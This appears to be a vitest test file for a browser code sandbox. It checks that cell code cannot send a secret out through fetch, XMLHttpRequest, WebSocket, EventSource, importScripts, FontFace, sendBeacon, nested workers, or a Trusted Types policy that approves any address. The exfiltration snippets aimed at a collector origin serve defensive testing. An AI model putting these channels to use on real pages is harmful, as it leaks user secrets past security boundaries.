/** A cell tries to reach the network, with the prelude and without it: nothing arrives anywhere. */
import { describe, expect } from 'vitest';
import type { Collector } from '../site/collect-requests.ts';
import { LESSON, test } from '../site/test.ts';
import { attack, attempting, expectNextRunWorks, UNDER_ATTACK } from './attack-page.ts';
import { codeOf } from './ways-out.ts';

/** The worker's own way to say yes to an address: the policy on Trusted Types is no boundary in there. */
const TRUST = "const trust = trustedTypes.createPolicy('wb-sandbox', { createScriptURL: (url) => url });";

/** A program that takes the secret out, as text in the text of a cell. */
const stealing = ({ origin }: Collector): string =>
  JSON.stringify(
    `fetch('${origin}/nested', { mode: 'no-cors' }).catch(() => {}).then(() => postMessage('has tried'));`,
  );

/** Starts a worker of the worker's own and waits until it has tried. */
const nested = (url: string): string => `${TRUST}
  const inner = new Worker(trust.createScriptURL(${url}));
  await new Promise((resolve, reject) => { inner.onmessage = resolve; inner.onerror = reject; });`;

/** Waits for one of two events of something that connects. */
const until = (good: string): string =>
  `await new Promise((resolve, reject) => { it.on${good} = resolve; it.onerror = () => reject('error'); });`;

const CHANNELS: Readonly<Record<string, (collector: Collector) => string>> = {
  'a POST that outlives the page': ({ origin }) =>
    `await fetch('${origin}/post', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' });`,
  XMLHttpRequest: ({ origin }) =>
    `const it = new XMLHttpRequest(); it.open('GET', '${origin}/xhr'); it.send(); ${until('load')}`,
  WebSocket: ({ origin }) => `const it = new WebSocket('${origin.replace('http', 'ws')}/socket'); ${until('open')}`,
  EventSource: ({ origin }) => `const it = new EventSource('${origin}/events'); ${until('open')}`,
  importScripts: ({ origin }) => `importScripts('${origin}/script.js');`,
  'importScripts with a trusted address': ({ origin }) =>
    `${TRUST} importScripts(trust.createScriptURL('${origin}/script.js'));`,
  FontFace: ({ origin }) => `await new FontFace('stolen', 'url(${origin}/font)').load();`,
  sendBeacon: ({ origin }) => `navigator.sendBeacon('${origin}/beacon', 'secret');`,
  'a worker in the worker, from a blob': (collector) =>
    nested(`URL.createObjectURL(new Blob([${stealing(collector)}], { type: 'text/javascript' }))`),
  'a worker in the worker, from a data address': (collector) =>
    nested(`'data:text/javascript,' + encodeURIComponent(${stealing(collector)})`),
};

describe.for([true, false])('with the prelude: %s', (prelude) => {
  test('fetches and imports are refused, ours as well as others', async ({ serve, openPage, collector }) => {
    const site = await serve({ prelude });
    const page = await openPage(site.url(LESSON.en), UNDER_ATTACK);
    for (const way of ['foreign fetch', 'own fetch', 'import over http', 'import of data'] as const) {
      const shown = await attack(page, attempting(codeOf(way, { collector, site })));
      expect(shown, way).toContain('was refused');
      await expectNextRunWorks(page);
      expect(collector.hits, way).toEqual([]);
      expect(site.requests.filter((path) => path.includes('secret'))).toEqual([]);
    }
  });

  test('no other channel takes anything out', async ({ serve, openPage, collector }) => {
    const page = await openPage((await serve({ prelude })).url(LESSON.en), UNDER_ATTACK);
    const open: string[] = [];
    for (const [name, attempt] of Object.entries(CHANNELS)) {
      const shown = await attack(page, attempting(attempt(collector)));
      if (!shown.includes('was refused')) open.push(name);
    }
    // A worker in the worker does start when the prelude has not taken it away; it has no more than its maker.
    expect(open).toEqual(prelude ? [] : Object.keys(CHANNELS).filter((name) => name.startsWith('a worker')));
    await expectNextRunWorks(page);
    expect(collector.hits).toEqual([]);
  });
});
